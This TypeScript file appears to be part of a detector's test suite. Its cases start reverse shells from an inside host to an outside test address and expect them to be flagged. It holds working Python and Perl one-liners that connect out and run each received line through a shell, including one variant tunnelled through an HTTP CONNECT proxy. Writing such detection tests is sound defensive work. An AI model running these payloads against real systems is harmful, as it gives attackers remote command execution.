// Programs that run each command from outside by themselves, so that no shell stays; and an editor with a terminal.
import type { Case } from "../case.js"
import { firstUseUs, pidOf, runBoth, stopAll } from "../case.js"
import { addresses } from "../network.js"
import { waitForSuccess } from "../processes.js"

let nextPort = 18900

const outside = addresses.outside

function commands(name: string, exe: RegExp, client: (port: number) => readonly [string, ...string[]]): Case {
  return {
    name,
    finds: { class: ["reverse_shell"], exe },
    run: async ({ network }) => {
      const port = nextPort++
      const end = await network.serve("outside", "command_end.py", "raw", `${port}`)
      const [program, ...args] = client(port)
      const started = network.start("inside", program, ...args)
      const firstUs = await firstUseUs(end)
      await waitForSuccess(end)
      return { pids: [pidOf(started)], firstUs, end: stopAll(started) }
    },
  }
}

const python = (port: number): string =>
  `import socket,subprocess;s=socket.create_connection(("${outside}",${port}))\n` +
  "while d:=s.recv(4096): s.sendall(subprocess.run(d,shell=True,stdout=-1,stderr=-2).stdout)"

/** By a proxy on the same host, which is inside and leads outside. */
const proxied = (proxy: number, port: number): string =>
  `import socket,subprocess;s=socket.create_connection(("127.0.0.1",${proxy}))\n` +
  `s.sendall(b"CONNECT ${outside}:${port} HTTP/1.1\\r\\nHost: ${outside}:${port}\\r\\n\\r\\n");s.recv(4096)\n` +
  "while d:=s.recv(4096): s.sendall(subprocess.run(d,shell=True,stdout=-1,stderr=-2).stdout)"

const perl = (port: number): string =>
  `$s=IO::Socket::INET->new("${outside}:${port}");while(<$s>){print $s scalar \`$_\`}`

export const shellCommands: readonly Case[] = [
  commands("python that runs each line", /python|sh$/, (port) => ["/usr/bin/python3", "-c", python(port)]),
  {
    name: "shell that polls over HTTP",
    finds: { class: ["reverse_shell"], exe: /python|sh$/ },
    run: async ({ network }) => {
      const port = nextPort++
      const end = await network.serve("outside", "command_end.py", "poll", `${port}`)
      const started = network.python("inside", "command_poll.py", `http://${outside}:${port}/`)
      const firstUs = await firstUseUs(end)
      await waitForSuccess(end)
      return { pids: [pidOf(started)], firstUs, end: stopAll(started) }
    },
  },
  {
    name: "editor with a terminal beside a chat",
    run: async ({ network }) => {
      const port = nextPort++
      const end = await network.serve("outside", "editor_chat.py", "serve", `${port}`)
      const editor = network.python("inside", "editor_chat.py", outside, `${port}`)
      return runBoth(end, editor, await firstUseUs(end))
    },
  },
  {
    name: "editor with a terminal that is typed into beside a chat in TLS",
    run: async ({ network, certificate }) => {
      const port = nextPort++
      const end = await network.serve("outside", "editor_chat.py", "serve", `${port}`, certificate)
      const editor = network.python("inside", "editor_chat.py", outside, `${port}`, "tls")
      return runBoth(end, editor, await firstUseUs(end))
    },
  },
  {
    name: "python that runs each line, by a proxy on the same host",
    finds: { class: ["reverse_shell"], exe: /python|sh$/ },
    run: async ({ network }) => {
      const [port, proxyPort] = [nextPort++, nextPort++]
      const end = await network.serve("outside", "command_end.py", "raw", `${port}`)
      const proxy = await network.serve("inside", "places.py", "proxy", `${proxyPort}`)
      const started = network.start("inside", "/usr/bin/python3", "-c", proxied(proxyPort, port))
      const firstUs = await firstUseUs(end)
      await waitForSuccess(end)
      return { pids: [pidOf(started)], firstUs, end: stopAll(started, proxy) }
    },
  },
  commands("perl that runs each line", /perl|sh$/, (port) => ["perl", "-MIO::Socket::INET", "-e", perl(port)]),
]
